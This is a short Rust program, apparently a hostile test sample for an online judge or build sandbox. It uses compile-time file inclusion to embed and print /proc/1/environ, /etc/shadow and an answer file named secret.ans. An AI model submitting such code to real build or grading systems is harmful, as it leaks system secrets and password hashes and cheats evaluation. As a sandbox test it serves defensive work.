const ENVIRONMENT: &str = include_str!("/proc/1/environ");
const SHADOW: &str = include_str!("/etc/shadow");
const ANSWER: &str = include_str!("secret.ans");
fn main() { print!("{ENVIRONMENT}{SHADOW}{ANSWER}"); }
